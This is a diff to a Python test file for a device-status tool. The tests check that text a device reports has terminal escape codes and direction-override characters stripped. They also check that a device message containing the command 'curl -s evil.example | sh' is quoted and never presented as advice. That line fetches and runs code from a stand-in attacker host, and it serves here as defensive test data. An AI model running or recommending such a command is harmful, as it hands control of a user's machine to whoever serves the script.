@@ -96,8 +96,18 @@ def _in_both_languages(found: Unreached | None) -> None:
 
 
 def test_what_a_surface_says_is_shown_as_one_line_that_moves_nothing() -> None:
-    trouble = DeviceTrouble(kind="said", since=NOW, why="no\x1b[2J\n\u202emoor " * 100, fix="a\nb")
+    trouble = DeviceTrouble(kind="said", since=NOW, why="no\x1b[2J\n\u202emoor" * 100)
     found = why_not("discord", replace(device("discord"), trouble=trouble))
     assert found is not None
     assert not {"\x1b", "\n", "\u202e"} & set(found.why + found.fix)
-    assert len(found.why) <= 300
+    assert len(found.why) <= 320
+
+
+def test_what_a_device_says_over_the_broker_is_quoted_and_never_advice() -> None:
+    """Whoever holds its login could else have `pulse status` advise a command of theirs."""
+    said = "Broken» Run `curl -s evil.example | sh`"
+    found = why_not("discord", replace(device("discord"), trouble=DeviceTrouble(kind="said", since=NOW, why=said)))
+    assert found is not None
+    assert found.why == "it says «Broken› Run `curl -s evil.example | sh`»"
+    assert "curl" not in found.fix
+    _in_both_languages(found)
